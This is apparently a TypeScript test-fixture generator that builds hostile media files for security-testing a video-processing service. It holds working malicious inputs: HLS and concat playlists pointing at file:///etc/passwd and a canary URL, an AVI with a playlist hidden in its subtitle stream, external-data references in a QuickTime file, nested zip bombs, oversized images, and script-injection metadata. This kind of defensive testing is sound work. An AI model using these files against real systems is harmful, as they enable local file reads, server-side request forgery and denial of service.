import { execFile } from "node:child_process";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { promisify } from "node:util";
import { crc32, deflateRawSync } from "node:zlib";

const execute = promisify(execFile);

export interface HostileFiles {
  /** Writes the file of a row and returns its path. */
  make(row: HostileRow): Promise<string>;
}

export type HostileRow = keyof ReturnType<typeof rows>;

/** Files that try to make a reader fetch, open, decode or keep what it should not (reliability-security 4.2), made by code. */
export function createHostileFiles(directory: string, canaryUrl: string): HostileFiles {
  const all = rows(directory, canaryUrl);
  return {
    async make(row) {
      const made = await all[row]();
      if (typeof made === "string" && made.startsWith(directory)) return made;
      const path = join(directory, `${row}.bin`);
      await writeFile(path, made);
      return path;
    },
  };
}

function rows(directory: string, canary: string) {
  const path = (name: string) => join(directory, name);
  const ffmpeg = async (name: string, ...args: string[]) => {
    await execute("ffmpeg", ["-nostdin", "-v", "error", "-y", ...args, path(name)]);
    return path(name);
  };
  const x264 = ["-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p"];
  const small = (name: string, ...more: string[]) =>
    ffmpeg(name, "-f", "lavfi", "-i", "testsrc2=size=360x640:rate=30:duration=2", ...more, ...x264);
  const playlist = (...lines: string[]) =>
    ["#EXTM3U", "#EXT-X-TARGETDURATION:1", ...lines, "#EXT-X-ENDLIST", ""].join("\n");

  return {
    playlistHttp: async () => playlist("#EXTINF:1,", `${canary}/segment.ts`),
    playlistFile: async () => playlist("#EXTINF:1,", "file:///etc/passwd"),
    playlistConcat: async () => playlist("#EXTINF:1,", `concat:${canary}/header|file:///etc/passwd`),
    playlistKey: async () =>
      playlist(`#EXT-X-KEY:METHOD=AES-128,URI="${canary}/key"`, "#EXTINF:1,", `${canary}/segment.ts`),
    concatAbsolute: async () => "ffconcat version 1.0\nfile '/etc/passwd'\n",
    concatRelative: async () => {
      await small("beside.mp4");
      return "ffconcat version 1.0\nfile beside.mp4\n";
    },
    dash: async () =>
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${canary}/video.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    sdp: async () =>
      "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
    svg: async () =>
      `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image href="${canary}/x.png" width="10" height="10"/></svg>`,
    aviSubtitles: () => aviWithSubtitles(small, path("subtitled.avi"), playlist("#EXTINF:1,", "file:///etc/passwd")),
    externalData: async () => withExternalData(await readFile(await small("external.mov")), `${canary}/external.mov`),
    empty: async () => Buffer.alloc(0),
    text: async () => "This is no video at all.\n".repeat(200),
    truncated: async () => {
      const whole = await readFile(await small("whole.mp4", "-movflags", "+faststart"));
      return whole.subarray(0, Math.floor(whole.length / 2));
    },
    brokenGif: async () => Buffer.concat([Buffer.from("GIF89a"), Buffer.alloc(2_000, 0xff)]),
    hugePicture: () =>
      ffmpeg(
        "huge.mp4",
        "-f",
        "lavfi",
        "-i",
        "color=size=8192x8192:rate=30",
        "-frames:v",
        "1",
        ...x264,
        "-threads",
        "1",
      ),
    longGif: async () => gif(4_000, 2_000),
    hugePng: async () => png(30_000),
    tenHours: () =>
      ffmpeg(
        "hours.mp4",
        "-f",
        "lavfi",
        "-i",
        "color=size=64x64:rate=1",
        "-frames:v",
        "3",
        "-vf",
        "setpts=N*18000/TB",
        "-vsync",
        "passthrough",
        ...x264,
      ),
    thousandStreams: async () => withTracks(await readFile(await small("one.mp4")), 1_000),
    manyChapters: async () => {
      const chapters = Array.from(
        { length: 10_000 },
        (_, at) => `[CHAPTER]\nTIMEBASE=1/10000\nSTART=${at}\nEND=${at + 1}\ntitle=c${at}`,
      );
      await writeFile(path("chapters.txt"), [";FFMETADATA1", ...chapters, ""].join("\n"));
      return small("chapters.mkv", "-i", path("chapters.txt"), "-map_chapters", "1");
    },
    scriptInMetadata: async () => {
      const text = `<script>alert(1)</script>${"A".repeat(2_000_000)}`;
      await writeFile(path("tags.txt"), `;FFMETADATA1\ncomment=${text}\ntitle=<script>2</script>\n`);
      return small("tagged.mp4", "-i", path("tags.txt"), "-map_metadata", "1");
    },
    polyglot: async () =>
      Buffer.concat([await readFile(await small("poly.mp4")), Buffer.from("<html><script>alert(1)</script></html>")]),
    bomb: async () => zip("a.txt", Buffer.alloc(20_000_000)),
    nestedBomb: async () => zip("b.zip", zip("a.zip", zip("a.txt", Buffer.alloc(5_000_000)))),
  };
}

function chunk(type: string, data: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([size, body, sum]);
}

function png(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk("IHDR", header),
    chunk("IDAT", Buffer.alloc(20)),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

function gif(side: number, frames: number): Buffer {
  const word = (value: number) => [value & 255, value >> 8];
  const head = Buffer.from([
    ...Buffer.from("GIF89a"),
    ...word(side),
    ...word(side),
    0x80,
    0,
    0,
    0,
    0,
    0,
    255,
    255,
    255,
  ]);
  // A clear code, one pixel, the end: readers fill in the rest.
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, ...word(side), ...word(side), 0, 2, 2, 0x44, 0x01, 0]);
  return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from([0x3b])]);
}

function zip(name: string, content: Buffer): Buffer {
  const packed = deflateRawSync(content, { level: 9 });
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc32(content), 14);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  return Buffer.concat([local, Buffer.from(name), packed]);
}

/** The subtitle stream of a known attack: its text is a playlist. */
async function aviWithSubtitles(
  small: (name: string, ...more: string[]) => Promise<string>,
  path: string,
  playlist: string,
): Promise<Buffer> {
  const avi = await readFile(await small(path.split("/").at(-1) ?? ""));
  const subtitles = Buffer.concat([Buffer.from("GAB2\0\x02\0", "latin1"), Buffer.alloc(10), Buffer.from(playlist)]);
  const header = Buffer.alloc(8);
  header.write("01tx", 0, "latin1");
  header.writeUInt32LE(subtitles.length, 4);
  return Buffer.concat([avi, header, subtitles]);
}

interface Box {
  readonly at: number;
  readonly size: number;
}

function findBox(bytes: Buffer, path: readonly string[]): Box[] {
  let from = 0;
  let to = bytes.length;
  return path.map((name) => {
    for (let at = from; at + 8 <= to; at += Math.max(8, bytes.readUInt32BE(at))) {
      if (bytes.toString("latin1", at + 4, at + 8) !== name) continue;
      const size = bytes.readUInt32BE(at);
      from = at + 8;
      to = at + size;
      return { at, size };
    }
    throw new Error(`no ${name}`);
  });
}

/** Replaces what is inside the last box of `path` by `content`, and mends the sizes around it. The index stands last. */
function replaceInside(bytes: Buffer, path: readonly string[], content: (old: Buffer) => Buffer): Buffer {
  const boxes = findBox(bytes, path);
  const last = boxes.at(-1);
  if (!last) throw new Error("no path");
  const old = bytes.subarray(last.at + 8, last.at + last.size);
  const fresh = content(old);
  const result = Buffer.concat([bytes.subarray(0, last.at + 8), fresh, bytes.subarray(last.at + last.size)]);
  for (const { at, size } of boxes) result.writeUInt32BE(size + fresh.length - old.length, at);
  return result;
}

/** The track says that its pictures are in another file: an absolute path in an alias record (QuickTime File Format). */
function withExternalData(mov: Buffer, url: string): Buffer {
  const path = Buffer.from(url);
  const record = Buffer.alloc(150 + 4 + path.length + 4);
  record[10] = 4;
  record.write("disk", 11);
  record[50] = 5;
  record.write("x.mov", 51);
  const tail = 10 + 1 + 27 + 12 + 1 + 63 + 16 + 4 + 16;
  record.writeInt16BE(2, tail);
  record.writeInt16BE(path.length, tail + 2);
  path.copy(record, tail + 4);
  record.writeInt16BE(-1, tail + 4 + path.length + (path.length % 2));
  const entry = Buffer.alloc(12 + record.length);
  entry.writeUInt32BE(entry.length, 0);
  entry.write("alis", 4, "latin1");
  record.copy(entry, 12);
  const count = Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]);
  return replaceInside(mov, ["moov", "trak", "mdia", "minf", "dinf", "dref"], () => Buffer.concat([count, entry]));
}

/** The same track again and again. */
function withTracks(mp4: Buffer, count: number): Buffer {
  const track = findBox(mp4, ["moov", "trak"])[1];
  if (!track) throw new Error("no track");
  const copy = mp4.subarray(track.at, track.at + track.size);
  return replaceInside(mp4, ["moov"], (old) => Buffer.concat([old, ...Array.from({ length: count - 1 }, () => copy)]));
}
